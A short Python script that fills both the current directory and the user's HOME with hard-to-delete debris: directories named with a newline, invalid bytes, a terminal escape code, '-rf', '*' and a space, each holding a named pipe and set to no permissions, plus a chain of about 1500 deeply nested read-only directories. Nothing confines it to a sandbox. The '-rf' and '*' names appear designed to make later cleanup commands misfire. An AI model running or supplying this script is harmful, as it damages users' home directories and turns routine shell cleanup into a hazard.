import os
import time

# What is hard to remove: a thousand folders in each other that nobody may enter, pipes, odd names.
for place in (os.getcwd(), os.environ["HOME"]):
    os.chdir(place)
    for name in (b"new\nline", b"\xff\xfe", b"\x1b[31mred", b"-rf", b"*", b" "):
        os.mkdir(name)
        os.mkfifo(name + b"/pipe")
        os.chmod(name, 0)
    for depth in range(1500):
        try:
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        except OSError as error:
            print("stopped:", error, flush=True)
            break
    for depth in range(2000):
        try:
            os.chmod(".", 0o500)
            os.chdir("..")
        except OSError:
            break
time.sleep(1000)
